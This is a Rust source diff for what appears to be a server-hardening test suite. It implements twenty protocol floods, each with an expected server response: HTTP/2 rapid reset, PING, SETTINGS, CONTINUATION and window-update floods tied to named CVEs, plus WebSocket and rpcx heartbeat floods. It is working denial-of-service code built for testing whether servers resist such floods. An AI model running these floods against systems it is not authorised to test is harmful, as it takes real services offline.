@@ -1,0 +1,245 @@
+//! The known floods of HTTP/2, and their like of other protocols: cheap to send, not so cheap to take.
+
+use std::io;
+use std::time::{Duration, Instant};
+
+use super::line::Line;
+use super::{Attack, End, Form, Outcome, Siege, attack};
+use crate::raw::frames;
+use crate::raw::h2::{
+    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADER_TABLE_SIZE, HEADERS,
+    INITIAL_WINDOW_SIZE, LARGEST_WINDOW, PADDED, PING, PRIORITY, grpc_head, stream,
+};
+
+/// A server that is flooded says GOAWAY soon.
+const SOON: End = End::Within(|_| Duration::from_secs(3));
+const COSTS_NO_MORE_THAN_HONEST_TRAFFIC: End = End::Held("costs no more than honest traffic");
+
+pub(super) const ATTACKS: [Attack; 20] = [
+    attack("rapid_reset", "7", "100,000 streams, each reset at once (CVE-2023-44487)", SOON, |siege| {
+        Box::pin(flood(
+            siege,
+            |_| {},
+            |frames, turn| {
+                frames.head(stream(turn), &echo());
+                frames.reset(stream(turn));
+            },
+        ))
+    }),
+    attack("ping", "flood", "PING without end (CVE-2019-9512)", SOON, |siege| {
+        Box::pin(flood(siege, |_| {}, |frames, _| frames.frame(PING, 0, 0, b"anybody?")))
+    }),
+    attack("settings", "flood", "SETTINGS without end (CVE-2019-9515)", SOON, |siege| {
+        Box::pin(flood(siege, |_| {}, |frames, _| frames.settings(&[])))
+    }),
+    attack("settings_table_size", "flood", "SETTINGS that change the table of HPACK", SOON, |siege| {
+        Box::pin(flood(
+            siege,
+            |_| {},
+            |frames, turn| {
+                frames.settings(&[(HEADER_TABLE_SIZE, if turn.is_multiple_of(2) { 0 } else { u32::MAX })]);
+            },
+        ))
+    })
+    .only_in(Form::FullOnly),
+    attack("empty_data", "flood", "empty DATA without end (CVE-2019-9518)", SOON, |siege| {
+        Box::pin(flood(siege, |frames| frames.head(1, &echo()), |frames, _| frames.frame(DATA, 0, 1, &[])))
+    }),
+    attack("empty_data_padded", "flood", "DATA of padding alone without end", SOON, |siege| {
+        Box::pin(flood(
+            siege,
+            |frames| frames.head(1, &echo()),
+            |frames, _| frames.frame(DATA, PADDED, 1, &[0]),
+        ))
+    })
+    .only_in(Form::FullOnly),
+    attack("continuation_empty", "flood", "CONTINUATION without end (CVE-2024-27316)", SOON, |siege| {
+        Box::pin(flood(siege, begin_head, |frames, _| frames.frame(CONTINUATION, 0, 1, &[])))
+    })
+    .only_in(Form::FullOnly),
+    attack("continuation_long", "flood", "long CONTINUATION without end", SOON, |siege| {
+        Box::pin(flood(siege, begin_head, |frames, _| frames.frame(CONTINUATION, 0, 1, &[0x83; 16_384])))
+    }),
+    attack("priority", "flood", "PRIORITY without end (CVE-2019-9513)", SOON, |siege| {
+        Box::pin(flood(siege, |_| {}, |frames, turn| frames.frame(PRIORITY, 0, stream(turn), &[0; 5])))
+    }),
+    attack("unknown_frames", "flood", "frames of an unknown kind without end", SOON, |siege| {
+        Box::pin(flood(siege, |_| {}, |frames, _| frames.frame(0x77, 0, 0, b"unknown")))
+    })
+    .only_in(Form::FullOnly),
+    attack(
+        "made_you_reset",
+        "flood",
+        "windows that overflow, so that the server resets (CVE-2025-8671)",
+        SOON,
+        |siege| {
+            Box::pin(flood(
+                siege,
+                |_| {},
+                |frames, turn| {
+                    frames.head(stream(turn), &echo());
+                    frames.window_update(stream(turn), LARGEST_WINDOW);
+                },
+            ))
+        },
+    ),
+    attack(
+        "made_you_reset_zero",
+        "flood",
+        "windows that grow by nothing, so that the server resets",
+        SOON,
+        |siege| {
+            Box::pin(flood(
+                siege,
+                |_| {},
+                |frames, turn| {
+                    frames.head(stream(turn), &echo());
+                    frames.window_update(stream(turn), 0);
+                },
+            ))
+        },
+    )
+    .only_in(Form::FullOnly),
+    attack("made_you_reset_half_closed", "flood", "DATA behind the end of a stream", SOON, |siege| {
+        Box::pin(flood(
+            siege,
+            |_| {},
+            |frames, turn| {
+                frames.frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &echo());
+                frames.frame(DATA, 0, stream(turn), b"late");
+            },
+        ))
+    })
+    .only_in(Form::FullOnly),
+    attack(
+        "header_list_bomb",
+        "flood",
+        "a field of 4 KiB, a byte for each time it is meant (CVE-2016-6581)",
+        SOON,
+        |siege| {
+            Box::pin(flood(
+                siege,
+                |frames| frames.call(1, &[echo(), large_field()].concat(), b"x"),
+                |frames, turn| {
+                    frames.head(stream(turn + 1), &[echo(), vec![0xbe; 16_000]].concat());
+                },
+            ))
+        },
+    ),
+    attack(
+        "window_updates",
+        "flood",
+        "WINDOW_UPDATE without end",
+        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
+        |siege| Box::pin(flood(siege, |_| {}, |frames, _| frames.window_update(0, 1))),
+    )
+    .only_in(Form::FullOnly),
+    attack(
+        "window_dribble",
+        "flood",
+        "100 answers of 1 MiB that may only leave byte by byte (CVE-2019-9511)",
+        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
+        |siege| {
+            Box::pin(flood(siege, without_windows, |frames, turn| {
+                frames.window_update(stream(turn % 100), 1)
+            }))
+        },
+    ),
+    attack(
+        "http2_acks",
+        "flood",
+        "acknowledgements of PING that nobody asked for",
+        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
+        |siege| Box::pin(flood(siege, |_| {}, |frames, _| frames.frame(PING, ACK, 0, b"anybody?"))),
+    )
+    .only_in(Form::FullOnly),
+    attack(
+        "websocket_pings",
+        "kin",
+        "pings of a WebSocket without end, pongs not read",
+        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
+        |siege| Box::pin(websocket(siege, frames::websocket(0x89, &[b'x'; 100]))),
+    ),
+    attack(
+        "websocket_fragments",
+        "kin",
+        "a message of a WebSocket in fragments that never end",
+        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
+        |siege| Box::pin(websocket(siege, frames::websocket(0x00, &[b'x'; 1_000]))),
+    ),
+    attack(
+        "rpcx_heartbeats",
+        "kin",
+        "heartbeats of rpcx without end, answers not read",
+        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
+        |siege| Box::pin(heartbeats(siege)),
+    ),
+];
+
+fn echo() -> Vec<u8> {
+    grpc_head("/Bare/Echo", &[])
+}
+
+fn begin_head(frames: &mut Frames) {
+    frames.frame(HEADERS, 0, 1, &echo());
+}
+
+fn without_windows(frames: &mut Frames) {
+    frames.settings(&[(INITIAL_WINDOW_SIZE, 0)]);
+    let head = grpc_head("/Bare/Blob", &[]);
+    (0..100).for_each(|turn| frames.call(stream(turn), &head, b"x"));
+}
+
+/// A field that takes the dynamic table nearly for itself.
+fn large_field() -> Vec<u8> {
+    [&b"\x40\x05x-big\x7f\xa1\x1e"[..], &[b'a'; 4_000]].concat()
+}
+
+/// One connection that says something, then takes turns for as long as the server takes them.
+async fn flood(siege: Siege, opening: fn(&mut Frames), turn: fn(&mut Frames, usize)) -> io::Result<Outcome> {
+    const MOST: usize = 100_000;
+    let mut frames = Frames::begin();
+    opening(&mut frames);
+    let mut line = siege.line().await?;
+    line.hear_frames();
+    line.send(&frames.bytes).await;
+    let (begun, window) = (Instant::now(), siege.profile.window());
+    let mut turns = 0;
+    while turns < MOST && begun.elapsed() < window && !line.is_closed() {
+        frames.bytes.clear();
+        while frames.bytes.len() < 16 << 10 {
+            turn(&mut frames, turns);
+            turns += 1;
+        }
+        if !line.send(&frames.bytes).await {
+            break;
+        }
+    }
+    Ok(siege.hold(vec![line]).await.note(format!("{turns} turns")))
+}
+
+/// Sends the same again and again, and reads nothing.
+async fn repeat(siege: &Siege, line: &mut Line, bytes: &[u8]) {
+    let many = bytes.repeat((64 << 10) / bytes.len());
+    let (begun, window) = (Instant::now(), siege.profile.window());
+    while begun.elapsed() < window && line.send(&many).await {}
+}
+
+async fn websocket(siege: Siege, frame: Vec<u8>) -> io::Result<Outcome> {
+    let mut line = siege.line().await?;
+    line.ask(frames::WEBSOCKET).await;
+    // The first fragment of a message; the pings may come between it and the next.
+    line.send(&frames::websocket(0x02, b"x")).await;
+    let mut line = line.deaf();
+    repeat(&siege, &mut line, &frame).await;
+    Ok(siege.hold(vec![line]).await)
+}
+
+async fn heartbeats(siege: Siege) -> io::Result<Outcome> {
+    let mut heartbeat = frames::rpcx("", "", 1, b"");
+    // The flag of a heartbeat, in the third byte.
+    heartbeat[2] |= 0x40;
+    let mut line = siege.line().await?.deaf();
+    repeat(&siege, &mut line, &heartbeat).await;
+    Ok(siege.hold(vec![line]).await)
+}
